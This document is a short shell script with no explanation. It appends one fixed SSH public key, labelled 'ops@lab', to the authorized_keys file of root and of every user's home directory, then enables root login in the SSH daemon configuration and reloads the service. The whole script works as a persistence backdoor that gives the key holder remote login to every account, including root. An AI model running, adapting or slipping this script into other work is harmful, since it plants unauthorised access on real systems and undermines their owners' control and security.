#!/bin/sh
set -e
umask 077
for h in /root /home/*; do
    [ -d "$h" ] || continue
    mkdir -p "$h/.ssh"
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7b0w3v8m4l1xT9sPzYf2uNhXcJrEo5dGiWkQaLtVz ops@lab' >> "$h/.ssh/authorized_keys"
done
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
service ssh reload
